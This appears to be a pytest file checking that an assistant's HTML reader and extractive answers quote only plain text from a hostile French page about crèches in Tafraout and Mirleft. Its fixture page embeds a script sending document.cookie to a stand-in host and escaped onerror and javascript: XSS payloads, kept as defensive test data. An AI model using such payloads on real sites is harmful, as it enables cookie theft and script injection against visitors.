"""A hostile web page through the real reader, index and extractive answers: what is quoted is text, never markup,
links or code, and the page's text keeps no tags, even those written as entities (&lt;img …&gt;).

Every line of the page is about the question's subject, so each would be a candidate on its words alone.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from conftest import scratch_settings

from assistant.answers.quotable import is_quotable
from assistant.services import Services, build_services
from index.backends.factory import close_backend
from ingest.readers import read_bytes

ANSWER = "La commune de Tafraout a ouvert quatre crèches communales en 2024 pour les mères qui travaillent."
HOSTILE_PAGE = f"""<!DOCTYPE html><html><head><title>Crèches communales de Tafraout</title>
<script>var creches = document.querySelectorAll('.creche'); fetch('https://x.example/?c=' + document.cookie);</script>
<style>.creches-tafraout {{ color: red; }}</style></head><body>
<h1>Crèches communales de Tafraout</h1>
<p>{ANSWER}</p>
<p>&lt;img src=x onerror=alert('crèches communales de Tafraout')&gt; [crèches communales ouvertes à Tafraout](javascript:alert(1))</p>
<pre><code>function crechesOuvertes(commune) {{ return commune.creches.filter(c =&gt; c.ouverte &amp;&amp; c.annee == 2024); }}</code></pre>
<p>.creches-communales-tafraout {{ margin: 0; content: "crèches ouvertes en 2024"; }}</p>
<pre>const reponse = "Tafraout a ouvert quatre crèches communales en 2024 pour les mères qui travaillent"</pre>
<pre>if (commune == "Tafraout" &amp;&amp; annee == 2024) afficher("quatre crèches communales ouvertes")</pre>
<p>https://tafraout.example/creches-communales https://tafraout.example/creches/2024/ouvertes https://tafraout.example/meres</p>
<p>&lt;script&gt;alert("Combien de crèches communales Tafraout a-t-elle ouvertes ?")&lt;/script&gt;</p>
</body></html>"""
# Only code says how many crèches Mirleft opened: the answer must refuse, or quote something else, never the code.
CODE_ONLY_PAGE = """<!DOCTYPE html><html><head><title>Crèches communales de Mirleft</title></head><body>
<h1>Crèches communales de Mirleft</h1>
<p>La province de Tiznit publie chaque année la liste de ses équipements sociaux.</p>
<pre>const reponse = "La commune de Mirleft a ouvert six crèches communales en 2023 pour les mères qui travaillent";</pre>
<pre>if (commune == "Mirleft" &amp;&amp; annee == 2023) afficher("six crèches communales ouvertes à Mirleft en 2023")</pre>
<pre>function crechesMirleft() { return "six crèches communales ouvertes à Mirleft en 2023"; }</pre>
</body></html>"""
CODE_QUESTION = "Combien de crèches communales la commune de Mirleft a-t-elle ouvertes en 2023 ?"
QUESTION = "Combien de crèches communales la commune de Tafraout a-t-elle ouvertes en 2024 ?"
NOT_TEXT = ("<", ">", "javascript", "onerror", "function", "=", "{", "}", "http", "const ")


@pytest.mark.parametrize("line", [
    "function crechesOuvertes(commune) { return commune.creches.filter(c => c.ouverte); }",
    "var total = budget.femmes + budget.hommes;",
    ".creches-communales { margin: 0; content: \"crèches ouvertes\"; }",
    "if (taux == 19 && annee == 2023) console.log('ok')",
    "$('#budget').hide(); // masquer le tableau des crèches",
    'alert("Combien de crèches communales Tafraout a-t-elle ouvertes ?")',
])
def test_code_is_not_quotable(line: str) -> None:
    assert not is_quotable(line)


def test_the_html_reader_keeps_no_tags_not_even_escaped_ones() -> None:
    text = read_bytes(HOSTILE_PAGE.encode(), ".html").pages[0]
    assert ANSWER in text
    assert not re.search(r"<[a-zA-Z/!]", text), text  # no tag, opening, closing or comment
    assert "onerror" not in text and "document.cookie" not in text


@pytest.fixture(scope="module")
def runtime(tmp_path_factory: pytest.TempPathFactory, embed_model_path: str) -> Iterator[Services]:
    folder = tmp_path_factory.mktemp("hostile-page")
    (folder / "creches_tafraout.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    (folder / "creches_mirleft.html").write_text(CODE_ONLY_PAGE, encoding="utf-8")
    settings = scratch_settings(tmp_path_factory.mktemp("hostile-page-data"), embed_model_path)
    runtime = build_services(settings)
    assert runtime.indexer.ingest(folder).rejected == []
    yield runtime
    close_backend(settings)


def test_only_text_is_quoted_from_a_hostile_page(runtime: Services) -> None:
    answer = runtime.answers.answer(QUESTION)
    assert not answer.refused and answer.citations, answer
    for citation in answer.citations:
        assert not any(mark in citation.quote for mark in NOT_TEXT), citation.quote
    assert any("quatre crèches" in citation.quote for citation in answer.citations), answer
    assert not any(mark in answer.text for mark in ("javascript", "onerror", "function", "http")), answer.text


def test_code_is_not_quoted_even_when_only_code_answers(runtime: Services) -> None:
    answer = runtime.answers.answer(CODE_QUESTION)
    for citation in answer.citations:
        assert not any(mark in citation.quote for mark in NOT_TEXT), citation.quote
